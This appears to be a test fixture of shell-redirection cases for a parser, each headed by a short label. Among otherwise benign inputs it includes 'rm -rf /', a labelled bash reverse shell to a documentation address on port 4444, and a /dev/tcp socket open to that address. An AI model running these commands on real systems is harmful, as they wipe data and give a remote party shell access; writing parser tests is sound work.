### order is kept out of argv
rm 2>/dev/null -rf /
### leading
>out <in cat -n
### only
> file
### all operators
a <i >o >>p >|q <>r 2>&1 <&3 >&- &>both &>>more
### numbers
exec 3<>/dev/tcp/192.0.2.1/4444 4>x 5<&0
### named descriptor
exec {fd}>file
### both by >&
make >&log.txt
### duplicate a variable descriptor
echo x >&$fd 2>&"$e"
### digits that are a word
echo 2 >x 2a>y
### herestring
cat <<<"a $x" <<< word
### reverse shell
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
### behind compounds
{ a; b; } >x 2>&1; (c) <y; if d; then e; fi >z; while f; do g; done <h; for i in 1; do j; done >>k
### move descriptor
exec 3>&1-
### process substitution target
tee > >(cat) < <(ls)
